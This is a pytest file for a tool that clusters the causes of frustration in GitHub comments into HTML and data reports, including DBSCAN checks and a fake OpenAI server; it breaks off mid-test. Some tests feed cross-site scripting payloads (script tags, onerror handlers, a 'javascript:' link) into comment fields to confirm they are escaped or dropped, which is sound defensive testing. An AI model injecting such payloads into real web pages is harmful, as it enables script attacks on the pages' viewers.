"""``emocause report``: the case study end to end, and its parts.

The TensorFlow runs use the paper's own causes (``filtered_contributors.csv``)
and the bundled MiniLM, once with the paper's method (``--method paper``) and
once with the default; the scraped-records runs go through a real HTTP server
speaking the OpenAI protocol (``tests/fakes/openai.py``).  Clustering is
checked against scikit-learn's DBSCAN on a full precomputed cosine matrix, the
paper's method.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from emocause.report import clustering

from emocause.report import themes
from emocause.cli.app import main
from emocause.report.inputs import github_link, parse_when, safe_url, strip_quotes
from tests.conftest import PAPER
from tests.fakes.openai import FakeOpenAI, utterance

OUTPUTS = ("report.html", "report.md", "clusters.csv", "summary.json", "manifest.json",
           "charts/months.svg", "charts/sizes.svg", "charts/roles.svg", "charts/timeline.svg")


# ----------------------------------------------------------------------------- the paper's causes

@pytest.fixture(scope="module")
def embedding_cache(tmp_path_factory) -> Path:
    """One embedding cache for the module's TensorFlow runs (the causes are embedded once)."""
    return tmp_path_factory.mktemp("emb") / "embeddings.sqlite"


def _tf_run(tmp_path_factory, embedding_cache: Path, name: str, *args: str) -> Path:
    src = PAPER / "filtered_contributors.csv"
    if not src.is_file():
        pytest.skip("../shared/data/paper is not present")
    out = tmp_path_factory.mktemp(name) / "report"
    code = main(["report", str(src), "--from-causes", "--out", str(out),
                 "--repo", "tensorflow/tensorflow", "--embedding-cache", str(embedding_cache),
                 *args])
    assert code == 0
    return out


@pytest.fixture(scope="module")
def tf_report(tmp_path_factory, embedding_cache) -> Path:
    """The report built once from the paper's TensorFlow causes with the paper's method."""
    return _tf_run(tmp_path_factory, embedding_cache, "tf-paper", "--method", "paper")


@pytest.fixture(scope="module")
def tf_themes(tmp_path_factory, embedding_cache) -> Path:
    """The same causes with the default method (themes, outliers reassigned)."""
    return _tf_run(tmp_path_factory, embedding_cache, "tf-themes")


def _summary(out: Path) -> dict:
    return json.loads((out / "summary.json").read_text(encoding="utf-8"))


def _clusters(out: Path) -> pd.DataFrame:
    """clusters.csv with the spreadsheet guard undone (a leading ' before = + - @)."""
    rows = pd.read_csv(out / "clusters.csv", keep_default_na=False)
    for col in rows.columns:
        if pd.api.types.is_string_dtype(rows[col]):
            rows[col] = rows[col].str.replace(r"^'(?=[=+\-@\t\r])", "", regex=True)
    return rows


def test_tf_report_writes_every_file(tf_report: Path) -> None:
    for name in OUTPUTS:
        p = tf_report / name
        assert p.is_file() and p.stat().st_size > 0, name
    for name in ("months", "sizes", "roles", "timeline"):
        svg = (tf_report / "charts" / f"{name}.svg").read_text(encoding="utf-8")
        assert svg.startswith("<svg xmlns=\"http://www.w3.org/2000/svg\"") and svg.rstrip().endswith("</svg>")
    manifest = json.loads((tf_report / "manifest.json").read_text())
    assert manifest["command"] == "report"
    assert manifest["parameters"]["eps"] == 0.3
    assert manifest["parameters"]["min_samples"] == 4
    assert manifest["parameters"]["min_cluster_size"] == 8
    assert manifest["clustering"]["algorithm"] == "dbscan"
    assert manifest["embedding"]["model"] == "all-MiniLM-L6-v2"
    assert manifest["input"]["rows"] == 1275 and len(manifest["input"]["sha256"]) == 64


def test_tf_report_sizes_are_consistent(tf_report: Path, paper_dir: Path) -> None:
    src = pd.read_csv(paper_dir / "filtered_contributors.csv", dtype=str, keep_default_na=False)
    with_cause = int((src["Emotion Causes"].map(strip_quotes) != "").sum())
    s = _summary(tf_report)
    rows = _clusters(tf_report)
    assert s["n_causes"] == with_cause == len(rows)
    sizes = [c["size"] for c in s["clusters"]]
    assert sizes == sorted(sizes, reverse=True) and min(sizes) > 7
    assert sum(sizes) + s["n_unclustered"] == s["n_causes"]
    assert s["n_unclustered"] == s["n_noise"] + s["n_in_small_clusters"]
    assert [c["id"] for c in s["clusters"]] == list(range(1, len(sizes) + 1))
    counts = rows["cluster"].value_counts()
    for c in s["clusters"]:
        assert counts[c["id"]] == c["size"]
        assert 1 <= len(c["examples"]) <= 3 and c["keywords"] and c["label"]
        members = set(rows.loc[rows["cluster"] == c["id"], "cause"])
        assert all(e["cause"] in members for e in c["examples"])
        assert sum(c["roles"].values()) == c["size"]
    assert (rows["cluster"] == -1).sum() == s["n_unclustered"]
    # Traceable: every row points back at its input row and cause.
    assert rows["row"].between(0, len(src) - 1).all()
    sample = rows.iloc[0]
    assert strip_quotes(src.loc[int(sample["row"]), "Emotion Causes"]) == sample["cause"]


def test_tf_report_finds_the_papers_themes(tf_report: Path, paper_dir: Path) -> None:
    """Version trouble, failing CI/tests and merge conflicts come out as themes, as in the paper."""
    s = _summary(tf_report)
    words = [" ".join(c["keywords"]).lower() for c in s["clusters"]]
    assert any(re.search(r"version|compat", w) for w in words), words
    assert any(re.search(r"\bci\b|test", w) for w in words), words
    assert any(re.search(r"merge|conflict", w) for w in words), words

    rows = _clusters(tf_report)
    paper = pd.read_csv(paper_dir / "clusters.csv", dtype=str, keep_default_na=False)
    paper["cause"] = paper["Cause"].map(strip_quotes)
    joined = paper.merge(rows.drop_duplicates("cause")[["cause", "cluster", "algorithm_label"]],
                         on="cause", how="left")
    assert joined["cluster"].notna().all()  # every paper cause is among ours

    def theme_of(pattern: str) -> int:
        return next(c["id"] for c, w in zip(s["clusters"], words) if re.search(pattern, w))

    # The paper's merge-conflict cluster (4) and CI cluster (3) mostly land in our matching theme.
    merge, ci = theme_of(r"merge|conflict"), theme_of(r"\bci\b|tests? fail")
    assert (joined.loc[joined["Cluster"] == "4", "cluster"] == merge).sum() >= 6
    assert (joined.loc[joined["Cluster"] == "3", "cluster"] == ci).sum() >= 5
    # "Too many commits" (paper cluster 6) exists as a smaller DBSCAN cluster: squash requests group.
    squash = joined[(joined["Cluster"] == "6") & joined["cause"].str.contains("squash", case=False)]
    assert len(squash) >= 3 and squash["algorithm_label"].nunique() == 1
    assert (squash["algorithm_label"] >= 0).all()


def test_tf_report_links_and_pages(tf_report: Path) -> None:
    s = _summary(tf_report)
    urls = [e["url"] for c in s["clusters"] for e in c["examples"]]
    assert urls and all(re.fullmatch(r"https://github\.com/tensorflow/tensorflow/issues/\d+"
                                     r"#issuecomment-\d+", u) for u in urls)
    page = (tf_report / "report.html").read_text(encoding="utf-8")
    assert "tensorflow/tensorflow" in page and "<svg xmlns=" in page
    assert "<script" not in page.lower()
    assert not re.search(r"""(src|href)=["'](https?:)?//(?!github\.com)""", page)  # no external loads
    for c in s["clusters"]:
        assert f'id="theme-{c["id"]}"' in page
    md = (tf_report / "report.md").read_text(encoding="utf-8")
    assert md.startswith("# What causes frustration in tensorflow/tensorflow")
    assert "charts/months.svg" in md and md.count("\n### ") == len(s["clusters"])


#: The paper's six clusters (clusters.csv), named by reading them.
PAPER_CLUSTERS = {"1": "version and installation trouble", "2": "CUDA builds",
                  "3": "CI failures", "4": "merging the pull request", "5": "failing tests",
                  "6": "too many commits"}


def paper_overlap(rows: pd.DataFrame, paper_dir: Path) -> list[tuple[str, str, str, int, int]]:
    """(paper cluster, its name, the emocause theme holding most of it, causes there, size)."""
    paper = pd.read_csv(paper_dir / "clusters.csv", dtype=str, keep_default_na=False)
    paper["cause"] = paper["Cause"].map(strip_quotes)
    theme = rows.drop_duplicates("cause").set_index("cause")
    assert paper["cause"].isin(theme.index).all()  # every paper cause is among ours
    out = []
    for k, g in paper.groupby("Cluster"):
        ids = g["cause"].map(theme["cluster"])
        counts = ids[ids >= 1].value_counts()
        best = int(counts.index[0]) if len(counts) else -1
        label = theme.loc[theme["cluster"] == best, "cluster_label"].iloc[0] if best >= 1 else "other"
        out.append((k, PAPER_CLUSTERS[k], f"{best}. {label}", int(counts.max()) if len(counts) else 0,
                    len(g)))
    return out


def test_tf_default_names_most_causes_and_keeps_the_papers_clusters(tf_themes: Path,
                                                                    paper_dir: Path) -> None:
    """Issue 13: >= 60% of the causes in a named theme, and each of the paper's six clusters
    with at least half its causes in one theme (the table in docs/report.md)."""
    s = _summary(tf_themes)
    rows = _clusters(tf_themes)
    assert s["parameters"]["method"] == "themes" and s["parameters"]["algorithm"] == "agglomerative"
    assert s["n_clustered"] + s["n_unclustered"] == s["n_causes"] == len(rows)
    assert (rows["cluster"] >= 1).sum() == s["n_clustered"] and s["coverage"] >= 0.6
    assert s["n_unclustered"] == (rows["cluster"] == -1).sum() == s["n_noise"] + s["n_in_small_clusters"]
    table = paper_overlap(rows, paper_dir)
    for k, name, theme, n, size in table:
        assert n >= size / 2, f"paper cluster {k} ({name}): {n} of {size} in {theme}"
    # The "other" causes are written down as such, everywhere.
    page = (tf_themes / "report.html").read_text(encoding="utf-8")
    assert f"{s['n_unclustered']:,} causes" in page and 'id="other"' in page
    assert "Other: in no theme" in (tf_themes / "charts" / "sizes.svg").read_text(encoding="utf-8")


def _words(text: str) -> str:
    return " ".join(re.findall(r"[a-z0-9]+", text.lower()))


def test_tf_default_labels_are_phrases_from_the_causes(tf_themes: Path) -> None:
    s = _summary(tf_themes)
    rows = _clusters(tf_themes)
    labels = [c["label"] for c in s["clusters"]]
    assert len({_words(x) for x in labels}) == len(labels)  # deduplicated
    for c in s["clusters"]:
        label = c["label"]
        assert label and " · " not in label and len(label) <= 60, label
        # A phrase the theme's causes use (or its central cause, shortened): never stemmed.
        phrase = _words(label.replace("…", ""))
        members = [_words(t) for t in rows.loc[rows["cluster"] == c["id"], "cause"]]
        assert any(phrase in m for m in members), (label, members[:3])
        for sub in c["subthemes"]:
            assert sub["label"] and sub["label"] not in labels
    assert s["parameters"]["labels"] == "offline"


def test_tf_default_answers_what_a_maintainer_asks(tf_themes: Path) -> None:
    s = _summary(tf_themes)
    rows = _clusters(tf_themes)
    rows["when"] = pd.to_datetime(rows["date"], utc=True)
    page = (tf_themes / "report.html").read_text(encoding="utf-8")
    assert s["timeline"]["months"] == sorted(s["timeline"]["months"])
    for c in s["clusters"]:
        mine = rows[rows["cluster"] == c["id"]]
        assert c["authors"] == mine.loc[mine["author"] != "", "author"].nunique()
        top = mine["author"].value_counts()
        assert c["top_authors"][0]["causes"] == top.iloc[0]
        assert c["top_author_share"] == round(top.iloc[0] / len(mine), 4)
        assert c["first_seen"] == f"{mine['when'].min():%Y-%m-%d}"
        assert c["last_seen"] == f"{mine['when'].max():%Y-%m-%d}"
        assert sum(s["timeline"]["themes"][str(c["id"])].values()) == mine["when"].notna().sum()
        assert sum(c["roles"].values()) == c["size"]
        card = page.split(f'id="theme-{c["id"]}"', 1)[1].split("</article>", 1)[0]
        assert f"All {c['size']:,} causes" in card and card.count("<li>") >= min(c["size"], 500)
        assert "distinct authors" in card and "most active" in card
    # Large themes come with sub-themes that partition most of them.
    large = [c for c in s["clusters"] if c["size"] >= 40]
    assert large and all(len(c["subthemes"]) >= 2 for c in large)
    for c in large:
        mine = rows[rows["cluster"] == c["id"]]
        assert sum(x["size"] for x in c["subthemes"]) == (mine["subtheme"] >= 1).sum()
    assert (rows.loc[rows["subtheme"] >= 1, "cluster"] >= 1).all()


def test_tf_paper_method_is_the_papers_dbscan(tf_report: Path, embedding_cache: Path) -> None:
    """--method paper: the same core points, noise and clusters as scikit-learn's DBSCAN on the
    full cosine matrix of the same embeddings (read back from the embedding cache)."""
    from sklearn.metrics import adjusted_rand_score

    from emocause.report.embeddings import EmbeddingCache, Embedder

    rows = _clusters(tf_report)
    cache = EmbeddingCache(embedding_cache)
    try:
        embed = Embedder(None, None, cache)
        X = embed(rows["cause"].tolist())
        assert embed.counts["embedded"] == 0  # all from the cache
    finally:
        cache.close()
    ref, ref_core = _paper_dbscan(X, 0.3, 4)
    ours = rows["algorithm_label"].to_numpy()
    assert ((ours == -1) == (ref == -1)).all()
    assert (rows["core"].astype(str).str.lower() == "true").to_numpy().tolist() == ref_core.tolist()
    assert adjusted_rand_score(ref[ref_core], ours[ref_core]) == 1.0
    assert not rows["reassigned"].astype(str).str.lower().eq("true").any()


_ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "div", "p", "h1",
                 "h2", "h3", "h4", "main", "section", "b", "span", "svg", "rect", "text", "line",
                 "circle", "a", "article", "ul", "ol", "li", "q", "details", "summary", "code",
                 "mark", "dl", "dt", "dd", "footer", "i"}


def _tags(page: str) -> set[str]:
    from html.parser import HTMLParser

    found: set[str] = set()

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
            found.add(tag)
            for name, _ in attrs:
                assert not name.startswith("on"), name  # no event handler anywhere

    Tags().feed(page)
    return found


def _assert_self_contained(out: Path, link_prefix: str = "https://github.com/") -> str:
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page.lower() and "javascript:" not in page.lower()
    assert "@import" not in page and "url(" not in page and "<link" not in page.lower()
    assert not re.search(r"\s(src|srcset|poster|xlink:href)\s*=", page)
    assert "default-src 'none'" in page
    for href in re.findall(r'href="([^"]*)"', page):
        assert href.startswith("#") or href.startswith(link_prefix), href
    assert _tags(page) <= _ALLOWED_TAGS, _tags(page) - _ALLOWED_TAGS
    return page


def test_tf_page_is_self_contained_escaped_and_has_no_local_path(tf_themes: Path,
                                                                 embedding_cache: Path) -> None:
    page = _assert_self_contained(tf_themes, "https://github.com/tensorflow/tensorflow/")
    rows = _clusters(tf_themes)
    # Every cause is shown, and any markup in it is shown as text, never as markup.
    risky = [t for t in rows["cause"] if re.search(r"[<>&]", t)]
    assert risky
    for text in risky:
        assert not re.search(r"[<>]", text) or text not in page
    # No path of the build machine in what is shared.
    local = {str(PAPER), str(tf_themes), str(tf_themes.parent), str(Path.home()), str(Path.cwd()),
             str(embedding_cache.parent)}
    for name in ("report.html", "report.md", "summary.json", "clusters.csv", "charts/sizes.svg"):
        text = (tf_themes / name).read_text(encoding="utf-8")
        leaked = [p for p in local if p in text]
        assert not leaked, (name, leaked)
    assert "filtered_contributors.csv" in page  # the input, by name


# ----------------------------------------------------------------------------- untrusted text

def _write_causes(path: Path, rows: list[dict]) -> Path:
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def _causes_rows(evil: str, evil_url: str = "javascript:alert(1)") -> list[dict]:
    """Two themes of causes (merge conflicts, flaky CI) and a few loners; the merge theme's
    comments carry ``evil`` (so its examples show it), and one of its causes and links too."""
    rows = []
    merge = ["Please resolve the merge conflicts.", "Can you fix the merge conflicts?",
             "There are merge conflicts again.", "Resolve merge conflicts please.",
             "The merge conflicts need to be resolved.", "Merge conflicts block this PR.",
             "Fix the merge conflicts first.", "Still merge conflicts here.",
             "Please fix merge conflicts before review.", "This has merge conflicts."]
    ci = ["The CI build is failing again.", "CI failed on this change.",
          "The CI is broken for this PR.", "CI keeps failing on unrelated tests.",
          "The failing CI blocks the merge.", "CI build failure again.",
          "Our CI fails on every run.", "The CI pipeline failed."]
    for i, cause in enumerate(merge):
        rows.append({"Issue_ID": 100 + i, "User": f"<b>dev{i}</b>", "Comment_ID": 5000 + i,
                     "Date": f"2023-0{1 + i % 3}-1{i % 9} 10:00:00", "Comment": f"Hi. {cause} {evil}",
                     "Emotion Causes": f'"{cause}"', "UserType": "CONTRIBUTOR" if i % 3 else "MEMBER"})
    for i, cause in enumerate(ci):
        rows.append({"Issue_ID": 200 + i, "User": f"ci{i}", "Comment_ID": 6000 + i,
                     "Date": f"2023-02-0{1 + i} 09:00:00", "Comment": cause, "Emotion Causes": cause,
                     "UserType": "COLLABORATOR"})
    # One more hostile row inside the merge theme: in the cause, the author and the link.
    rows.append({"Issue_ID": 999, "User": "<b>mallory</b>", "Comment_ID": 7000,
                 "Date": "2023-03-01 08:00:00", "Comment": f"{evil} Please resolve the merge conflicts.",
                 "Emotion Causes": f"{evil} merge conflicts", "UserType": "CONTRIBUTOR",
                 "url": evil_url})
    for i, cause in enumerate(["The docs are outdated.", "My laptop ran out of memory.",
                               "Nobody answered for a month."]):
        rows.append({"Issue_ID": 300 + i, "User": f"x{i}", "Comment_ID": 8000 + i,
                     "Date": "2023-03-05 12:00:00", "Comment": cause, "Emotion Causes": cause,
                     "UserType": "NONE"})
    for r in rows:
        r.setdefault("url", "")
    return rows


def test_html_escapes_comment_text(tmp_path: Path, cli) -> None:
    evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    src = _write_causes(tmp_path / "causes.csv", _causes_rows(evil))
    out = tmp_path / "out"
    r = cli("report", src, "--from-causes", "--out", out, "--roles", "all", "--title",
            "<i>proj</i>")
    assert r.code == 0, r.err
    page = (out / "report.html").read_text(encoding="utf-8")
    s = _summary(out)
    assert any(evil in e["comment"] for c in s["clusters"] for e in c["examples"])  # it is shown
    assert "<script" not in page.lower() and "onerror=\"alert" not in page
    assert "<img src=x" not in page and "<b>dev" not in page and "<i>proj</i>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert re.search(r"&lt;b&gt;dev\d&lt;/b&gt;", page) and "&lt;i&gt;proj&lt;/i&gt;" in page
    assert "javascript:" not in page  # the hostile link is dropped, not escaped into an href
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "<b>dev" not in md and "&lt;b&gt;dev" in md and "<i>proj" not in md
    # The data files keep the text exactly as written.
    rows = pd.read_csv(out / "clusters.csv", keep_default_na=False)
    assert (rows["cause"] == f"{evil} merge conflicts").sum() == 1


def test_links_only_with_a_repo(tmp_path: Path, cli) -> None:
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    out = tmp_path / "out"
    assert cli("report", src, "--from-causes", "--out", out, "--roles", "all").code == 0
    rows = pd.read_csv(out / "clusters.csv", keep_default_na=False)
    assert (rows["url"] == "").all()  # no url column values, no --repo: no invented links
    out2 = tmp_path / "out2"
    assert cli("report", src, "--from-causes", "--out", out2, "--roles", "all",
               "--repo", "acme/widgets").code == 0
    rows = pd.read_csv(out2 / "clusters.csv", keep_default_na=False)
    assert rows["url"].str.match(r"https://github\.com/acme/widgets/issues/\d+#issuecomment-\d+").all()


def test_role_and_window_filters(tmp_path: Path, cli) -> None:
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    out = tmp_path / "out"
    # The paper's default roles drop the NONE authors; the window keeps February and March.
    r = cli("report", src, "--from-causes", "--out", out, "--since", "2023-02-01",
            "--until", "2023-03-31", "--min-cluster-size", "4")
    assert r.code == 0, r.err
    rows = pd.read_csv(out / "clusters.csv", keep_default_na=False)
    assert "NONE" not in set(rows["role"])
    dates = pd.to_datetime(rows["date"], utc=True)
    assert dates.min() >= pd.Timestamp("2023-02-01", tz="UTC")
    assert dates.max() <= pd.Timestamp("2023-03-31 23:59:59", tz="UTC")
    m = json.loads((out / "manifest.json").read_text())
    assert m["counts"]["other_roles"] == 3 and m["counts"]["outside_window"] > 0
    assert m["parameters"]["roles"] == ["CONTRIBUTOR", "COLLABORATOR", "MEMBER"]


def test_hdbscan_option(tmp_path: Path, cli) -> None:
    src = _write_causes(tmp_path / "causes.csv", _causes_rows("plain"))
    out = tmp_path / "out"
    r = cli("report", src, "--from-causes", "--out", out, "--roles", "all",
            "--algorithm", "hdbscan", "--min-cluster-size", "5")
    assert r.code == 0, r.err
    s = _summary(out)
    assert s["parameters"]["algorithm"] == "hdbscan" and "eps" not in s["parameters"]
    words = " ".join(" ".join(c["keywords"]) for c in s["clusters"])
    assert "merge" in words and "ci" in words.split()


# ----------------------------------------------------------------------------- scraped records

def _records() -> list[dict]:
    """Records in the scrape shape: two frustration themes, neutral chatter, a bot, an outsider."""
    base = {"source": "github", "project": "acme/widgets", "is_pull_request": True,
            "kind": "issue_comment", "updated_at": None}
    recs = []
    frustrating = [f"Ugh, the merge conflicts again in module {m}, please rebase." for m in "abcdefghij"] + \
                  [f"Annoying: the CI build failed again on runner {k}." for k in range(9)]
    neutral = [f"Looks good to me, merging patch {i}." for i in range(8)]
    for i, text in enumerate(frustrating + neutral):
        recs.append({**base, "id": f"c{i}", "thread": f"acme/widgets#{i % 7}",
                     "author": f"user{i % 5}", "author_association": ["CONTRIBUTOR", "MEMBER",
                                                                      "COLLABORATOR"][i % 3],
                     "is_bot": False, "created_at": f"2023-0{1 + i % 4}-15T10:00:00Z",
                     "url": f"https://github.com/acme/widgets/issues/{i % 7}#issuecomment-{900 + i}",
                     "body": text, "text": text})
    recs.append({**base, "id": "bot", "thread": "acme/widgets#1", "author": "ci-bot[bot]",
                 "author_association": "NONE", "is_bot": True, "created_at": "2023-02-01T00:00:00Z",
                 "url": "https://github.com/acme/widgets/issues/1#issuecomment-1",
                 "body": "Ugh, the CI build failed again.", "text": "Ugh, the CI build failed again."})
    recs.append({**base, "id": "outsider", "thread": "acme/widgets#2", "author": "drive-by",
                 "author_association": "NONE", "is_bot": False,
                 "created_at": "2023-02-02T00:00:00Z",
                 "url": "https://github.com/acme/widgets/issues/2#issuecomment-2",
                 "body": "Ugh, the merge conflicts again.", "text": "Ugh, the merge conflicts again."})
    return recs


def _frustration_responder(prompt: str, body: dict) -> str:
    """frustration-detect: Yes for "Ugh"/"Annoying" comments; frustration-cause: the quoted clause."""
    text = utterance(prompt)
    if "Answer with Yes or No" in prompt:
        return "Yes" if re.search(r"\b(ugh|annoying)\b", text, re.I) else "No"
    clause = re.split(r"[:,] ", text, maxsplit=1)[-1]
    return f'"{clause.split(", please")[0].rstrip(".")}"'


def test_records_path_through_an_openai_server(tmp_path: Path, cli) -> None:
    src = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(src, orient="records", lines=True)
    out = tmp_path / "out"
    with FakeOpenAI(responder=_frustration_responder) as fake:
        args = ("report", src, "--out", out, "--backend", "openai", "--model", "test-model",
                "--base-url", fake.url, "--min-cluster-size", "5", "--labels", "offline")
        r = cli(*args)
        assert r.code == 0, r.err
        sent = fake.count
        # 27 people's comments in the roles are asked (bot and NONE author filtered out first),
        # then the 19 frustrated ones are asked for their cause.
        assert sent == 27 + 19
        for req in fake.requests:
            assert req["body"]["model"] == "test-model"
        # A second run is answered from the shared cache: nothing is sent.
        r2 = cli(*args[:3], tmp_path / "out2", *args[4:])
        assert r2.code == 0, r2.err
        assert fake.count == sent
    for name in OUTPUTS + ("annotations.csv",):
        assert (out / name).is_file(), name
    s = _summary(out)
    assert s["n_causes"] == 19 and s["title"] == "acme/widgets"
    assert s["counts"]["comments"] == 27 and s["counts"]["emotion_comments"] == 19
    assert s["counts"]["bots"] == 1 and s["counts"]["other_roles"] == 1
    words = [" ".join(c["keywords"]) for c in s["clusters"]]
    assert any("merge conflicts" in w for w in words) and any("ci build" in w for w in words)
    assert sum(c["size"] for c in s["clusters"]) + s["n_unclustered"] == 19
    ann = pd.read_csv(out / "annotations.csv", keep_default_na=False)
    assert len(ann) == 27 and ann["shows_emotion"].sum() == 19
    assert set(ann.loc[ann["shows_emotion"], "emotion_label"]) == {"Frustration"}
    assert ann.loc[~ann["shows_emotion"], "cause"].eq("").all()
    urls = [e["url"] for c in s["clusters"] for e in c["examples"]]
    assert all(u.startswith("https://github.com/acme/widgets/issues/") for u in urls)
    assert sum(s["comments_per_month"].values()) == 27 and sum(s["months"].values()) == 19
    m = json.loads((out / "manifest.json").read_text())
    assert m["backend"]["backend"] == "openai" and m["prompts"]["detect"]["name"] == "frustration-detect"
    assert m["runs"]["detect"]["sent"] == 27 and m["runs"]["causes"]["sent"] == 19
    assert "annotations.csv" in m["outputs"]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "comments analysed" in page and "frustration-detect" in page


# ----------------------------------------------------------------------------- bad and tiny input

def test_empty_and_tiny_inputs_fail_with_one_line(tmp_path: Path, cli) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text("Comment,Emotion Causes,Date,UserType\n")
    r = cli("report", empty, "--from-causes", "--out", tmp_path / "o1")
    assert r.code == 2 and "no rows" in r.err and len(r.err.strip().splitlines()) == 1

    zero = tmp_path / "zero.csv"
    zero.write_text("")
    r = cli("report", zero, "--from-causes", "--out", tmp_path / "o1")
    assert r.code == 2 and "empty" in r.err

    tiny = _write_causes(tmp_path / "tiny.csv", _causes_rows("x")[:3])
    r = cli("report", tiny, "--from-causes", "--out", tmp_path / "o2")
    assert r.code == 2 and "only 3 causes" in r.err and len(r.err.strip().splitlines()) == 1

    blank = _write_causes(tmp_path / "blank.csv", [{"Comment": "hi", "Emotion Causes": "",
                                                    "UserType": "MEMBER"}] * 5)
    r = cli("report", blank, "--from-causes", "--out", tmp_path / "o3")
    assert r.code == 2 and "no causes" in r.err and "5 without a cause" in r.err

    src = _write_causes(tmp_path / "causes.csv", _causes_rows("x"))
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o4", "--roles", "OWNER")
    assert r.code == 2 and "no rows left" in r.err and "roles other than OWNER" in r.err
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o5", "--cause-col", "Why")
    assert r.code == 2 and "'Why'" in r.err and "Emotion Causes" in r.err
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o6", "--since", "last tuesday")
    assert r.code == 2 and "not a date" in r.err
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o7", "--algorithm", "kmeans")
    assert r.code == 2 and "dbscan" in r.err
    r = cli("report", src, "--from-causes", "--out", tmp_path / "o8", "--eps", "3")
    assert r.code == 2 and "--eps" in r.err
    r = cli("report", tmp_path / "missing.csv", "--from-causes", "--out", tmp_path / "o9")
    assert r.code == 2 and "not found" in r.err
    nocause = _write_causes(tmp_path / "nocause.csv", [{"text": "a", "role": "MEMBER"}])
    r = cli("report", nocause, "--from-causes", "--out", tmp_path / "o10")
    assert r.code == 2 and "cause" in r.err and "columns are: text, role" in r.err
    assert not any((tmp_path / f"o{i}").exists() for i in range(1, 11))


def test_records_path_for_another_emotion(tmp_path: Path, cli) -> None:
    """--emotion Anger: the all-levels label prompt picks the comments, the generic cause prompt
    extracts; a secondary label (Annoyance) counts for its basic emotion."""
    def responder(prompt: str, body: dict) -> str:
        if "Emotions: Anger, Irritation" in prompt:          # the all-levels label prompt
            return "Annoyance" if re.search(r"\b(ugh|annoying)\b", utterance(prompt), re.I) else "Neutral"
        assert "causes the emotion Anger" in prompt
        return _frustration_responder(prompt, body)

    src = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(src, orient="records", lines=True)
    out = tmp_path / "out"
    with FakeOpenAI(responder=responder) as fake:
        r = cli("report", src, "--out", out, "--emotion", "Anger", "--backend", "openai",
                "--model", "m", "--base-url", fake.url, "--min-cluster-size", "5",
                "--labels", "offline")
    assert r.code == 0, r.err
    s = _summary(out)
    assert s["emotion"] == "Anger" and s["n_causes"] == 19 and len(s["clusters"]) == 2
    m = json.loads((out / "manifest.json").read_text())
    assert m["prompts"]["detect"]["name"] == "all-levels" and m["prompts"]["cause"]["name"] == "cause"
    assert (out / "report.md").read_text().startswith("# What causes anger in acme/widgets")


def test_no_theme_is_a_report_not_an_error(tmp_path: Path, cli) -> None:
    causes = ["The docs are outdated.", "My laptop ran out of memory.", "Nobody answered for a month.",
              "The API changed without notice.", "Builds take two hours.", "The release slipped.",
              "Bazel cache is stale.", "Windows support is missing.", "GPU driver crashed."]
    src = _write_causes(tmp_path / "c.csv", [{"Comment": c, "Emotion Causes": c, "UserType": ""}
                                             for c in causes])
    r = cli("report", src, "--from-causes", "--out", tmp_path / "out")
    assert r.code == 0, r.err
    s = _summary(tmp_path / "out")
    assert s["clusters"] == [] and s["n_unclustered"] == s["n_causes"] == 9
    assert s["parameters"]["roles"] is None  # no role values: the default role filter is not applied
    page = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert "No theme has 8 or more causes" in page and "The comments have no dates" in page


def test_records_with_no_frustration_say_so(tmp_path: Path, cli) -> None:
    src = tmp_path / "records.jsonl"
    pd.DataFrame(_records()).to_json(src, orient="records", lines=True)
    with FakeOpenAI(responder=lambda prompt, body: "No") as fake:
        r = cli("report", src, "--out", tmp_path / "out", "--backend", "openai", "--model", "m",
                "--base-url", fake.url)
    assert r.code == 2 and "no causes to cluster" in r.err and len(r.err.strip().splitlines()) == 1
    assert "0 showing frustration" in r.err
    # A server that fails every request: the message says so and that a rerun retries.
    with FakeOpenAI(responder=lambda prompt, body: "Yes") as fake:
        fake.inject(500, times=1000)
        r = cli("report", src, "--out", tmp_path / "out", "--backend", "openai", "--model", "m",
                "--base-url", fake.url, "--retries", "0", "--no-cache")
    assert r.code == 2 and "requests failed (rerun to retry them)" in r.err


# ----------------------------------------------------------------------------- the parts

def _blobs(n_per: int, centres: int, noise: int, seed: int = 0, spread: float = 0.12) -> np.ndarray:
    rng = np.random.default_rng(seed)
    c = rng.standard_normal((centres, 64)).astype(np.float32)
    pts = [c[i] + spread * rng.standard_normal((n_per * (i + 1), 64)).astype(np.float32) * 3
           for i in range(centres)]
    pts.append(rng.standard_normal((noise, 64)).astype(np.float32))
    X = np.concatenate(pts)
    X = X[rng.permutation(len(X))]
    return X / np.linalg.norm(X, axis=1, keepdims=True)


def _paper_dbscan(X: np.ndarray, eps: float, min_samples: int, weight=None):
    from sklearn.cluster import DBSCAN
    from sklearn.metrics.pairwise import cosine_distances

    model = DBSCAN(eps=eps, min_samples=min_samples, metric="precomputed")
    model.fit(cosine_distances(X), sample_weight=weight)
    core = np.zeros(len(X), dtype=bool)
    core[model.core_sample_indices_] = True
    return model.labels_, core


@pytest.mark.parametrize("memory_mb,max_pairs", [(256, 4_000_000), (0.001, 7)])
def test_blocked_dbscan_equals_the_papers_dbscan(memory_mb, max_pairs, monkeypatch) -> None:
    """Same core points, same noise, same partition of the core points; borders go to a neighbour."""
    from sklearn.metrics import adjusted_rand_score

    monkeypatch.setattr(clustering, "_MAX_PAIRS", max_pairs)
    X = _blobs(n_per=15, centres=5, noise=150)
    X = np.concatenate([X, np.repeat(X[:3], 4, axis=0)])  # exact duplicates
    for eps, ms in ((0.3, 4), (0.15, 3), (0.5, 10)):
        labels, core = clustering.dbscan_cosine(X, eps, ms, memory_mb=memory_mb)
